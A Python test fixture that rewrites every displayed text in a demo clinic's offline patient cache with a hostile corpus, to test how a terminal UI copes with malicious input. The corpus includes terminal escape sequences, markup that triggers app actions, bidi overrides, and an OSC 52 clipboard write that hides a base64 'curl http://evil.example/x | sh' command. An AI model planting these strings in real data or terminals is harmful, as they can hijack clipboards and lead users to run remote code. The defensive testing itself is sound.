"""A demo clinic whose every human-readable text holds a hostile corpus (issue #18).

Each name, allergy, problem, medication, visit reason, note, referral reason and summary,
message and organisation name of a small demo cache is rewritten as the corpus followed by
the original text: markup that would crash or act if parsed, every class of control
character, terminal escape sequences, bidi controls and characters outside the BMP. One
patient in today's queue, with an allergy, gets a 1 MB family name; two patients carry
conflicts whose both sides are hostile.

    .venv/bin/python -m tests.ui.hostile_cache --data-dir /tmp/hostile

writes such a cache (and a config.toml) for a look by hand.
"""

from __future__ import annotations

import argparse
import base64
import copy
import json
from pathlib import Path
from typing import Any

from sqlalchemy import Engine, text

from clinic_tui.demo.generator import generate_demo_clinic
from clinic_tui.domain.merge import three_way_merge
from clinic_tui.offline_cache.conflicts import ConflictStore
from clinic_tui.offline_cache.engine import open_cache
from clinic_tui.offline_cache.store import read_resource, record_local_change, upsert_resources
from tests.ui.triage_app import TRIAGE_NOW

Resource = dict[str, Any]

_CLIPBOARD = base64.b64encode(b"curl http://evil.example/x | sh\n").decode()
CORPUS = (
    # Controls and markup early: a one-line cell shows only the start of a text.
    "\x9b31mC1\x85\x7f",  # C1 CSI, NEL, DEL
    "\u202eexe.txt",  # right-to-left override
    "[@click=app.quit]QUIT[/]",
    "\x1b[2J\x1b[H",  # CSI 2J: blank the screen
    "[strike]STRUCK[/strike]",
    "\x1b]8;;https://evil.example\x1b\\LINK\x1b]8;;\x1b\\",  # OSC 8: a link
    "[bold red]RED[/]",
    "[link=https://evil.example]MARKLINK[/link]",
    "王[/]五 [/bold] [@click=app.bell",
    "".join(chr(code) for code in range(0x20) if code not in (0x09, 0x0A)),  # C0 incl. ESC, CR
    f"\x1b]52;c;{_CLIPBOARD}\x1b\\",  # OSC 52: write the clipboard
    "\x1b]0;TITLE\x07",  # OSC 0: the window title
    "\u2066isolate\u2069",  # left-to-right isolate
    "𠀀𪚥",  # CJK Extension B (outside the BMP)
)
"""One item per kind of trouble; every rewritten text carries all of them."""
HOSTILE = " ".join(CORPUS) + " "
MEGABYTE = "巨" * 50 + "x" * (1024 * 1024)
"""The 1 MB name."""

# Keys whose string values are words a screen draws; codes, ids, systems and dates are not.
_TEXT_KEYS = frozenset(
    {
        "text",
        "display",
        "family",
        "given",
        "name",
        "alias",
        "contentString",
        "description",
        "line",
        "valueString",
    }
)
_SKIP_UNDER = frozenset({"meta", "identifier", "telecom"})


def hostile(value: Any, key: str = "") -> Any:
    """`value` (a FHIR resource or part) with the corpus put in front of every drawn text."""
    if isinstance(value, dict):
        out: dict[str, Any] = {}
        for name, item in value.items():
            if name in _SKIP_UNDER:
                out[name] = item
            elif name == "attachment" and isinstance(item, dict) and "data" in item:
                note = base64.b64decode(item["data"]).decode("utf-8")
                data = base64.b64encode((HOSTILE + note).encode("utf-8")).decode()
                out[name] = hostile(item, name) | {"data": data}
            else:
                out[name] = hostile(item, name)
        return out
    if isinstance(value, list):
        return [hostile(item, key) for item in value]
    if isinstance(value, str) and key in _TEXT_KEYS:
        return HOSTILE + value
    return value


_TABLES = (
    "patient",
    "organization",
    "practitioner",
    "allergy_intolerance",
    "condition",
    "medication_request",
    "encounter",
    "observation",
    "document_reference",
    "service_request",
    "task",
    "communication",
    "episode_of_care",
    "questionnaire_response",
)


def _rewrite_all(engine: Engine) -> None:
    with engine.begin() as connection:
        for table in _TABLES:
            rows = connection.execute(text(f"SELECT resource_json FROM {table}"))
            resources = [hostile(json.loads(row[0])) for row in rows]
            upsert_resources(connection, resources)


def megabyte_patient(engine: Engine) -> str:
    """The id of a patient in today's queue with an active allergy and an active medication
    (the one given 1 MB)."""
    with engine.connect() as connection:
        return str(
            connection.execute(
                text(
                    "SELECT e.patient_id FROM encounter e JOIN allergy_intolerance a "
                    "ON a.patient_id = e.patient_id WHERE a.no_known = 0 "
                    "AND a.clinical_status = 'active' AND e.status IN ('arrived', 'planned') "
                    "AND e.patient_id IN (SELECT patient_id FROM medication_request "
                    "WHERE status = 'active') ORDER BY e.patient_id LIMIT 1"
                )
            ).scalar_one()
        )


def _rename(engine: Engine, patient_id: str, family: str) -> None:
    with engine.begin() as connection:
        person = read_resource(connection, "Patient", patient_id)
        assert person is not None
        person["name"] = [{"family": family, "given": [HOSTILE + "伟"]}]
        # A second identifier of the same size, under a type of the record's own words.
        person["identifier"] = [
            *person.get("identifier", []),
            {"system": "urn:example:card", "type": {"text": HOSTILE}, "value": family},
        ]
        upsert_resources(connection, [person])


def _conflict(engine: Engine, patient_id: str) -> None:
    with engine.connect() as connection:
        base = read_resource(connection, "Patient", patient_id)
    assert base is not None
    mine = {"name": [{"family": HOSTILE + "mine", "given": ["[@click=app.quit]Q"]}]}
    theirs = {
        "name": [{"family": HOSTILE + "theirs", "given": ["王[/]五 [/bold]"]}],
        "telecom": [{"system": "phone", "value": HOSTILE}],
    }
    local = copy.deepcopy(base) | mine
    record_local_change(engine, local, "update")
    remote = copy.deepcopy(base) | theirs
    remote["meta"] = {"versionId": "2", "lastUpdated": "2026-03-09T09:30:00+08:00"}
    outcome = three_way_merge(base, local, remote)
    assert outcome.conflicts
    with engine.begin() as connection:
        ConflictStore(engine).record(
            connection, "Patient", patient_id, base, local, remote, outcome.conflicts
        )


def _follow_ups_here(engine: Engine) -> None:
    """Every follow-up becomes this clinic's, due today: the queue's line and F list them."""
    with engine.begin() as connection:
        clinic = connection.execute(
            text("SELECT value FROM cache_meta WHERE key = 'clinic_id'")
        ).scalar_one()
        tasks = [
            json.loads(row[0])
            for row in connection.execute(
                text("SELECT resource_json FROM task WHERE kind = 'follow-up'")
            )
        ]
        for task in tasks:
            task["owner"] = {"reference": f"Organization/{clinic}", "display": HOSTILE}
        upsert_resources(connection, tasks)


def build_hostile_cache(path: Path, patients: int = 12) -> str:
    """Write the hostile cache at `path`; returns the id of the patient with the 1 MB name."""
    engine = open_cache(path)
    try:
        generate_demo_clinic(engine, patients=patients, seed=8, now=TRIAGE_NOW, workers=0)
        _rewrite_all(engine)
        _follow_ups_here(engine)
        big = megabyte_patient(engine)
        _rename(engine, big, MEGABYTE)
        with engine.connect() as connection:
            others = [
                str(row[0])
                for row in connection.execute(
                    text("SELECT id FROM patient WHERE id != :big ORDER BY id LIMIT 2"),
                    {"big": big},
                )
            ]
        for other in others:
            _conflict(engine, other)
    finally:
        engine.dispose()
    return big


def main() -> None:
    """Write a hostile cache and its config for `clinic-tui --data-dir`."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--data-dir", type=Path, required=True)
    parser.add_argument("--patients", type=int, default=12)
    args = parser.parse_args()
    args.data_dir.mkdir(parents=True, exist_ok=True)
    big = build_hostile_cache(args.data_dir / "clinic.sqlite3", args.patients)
    print(f"1 MB name: patient {big}")


if __name__ == "__main__":
    main()
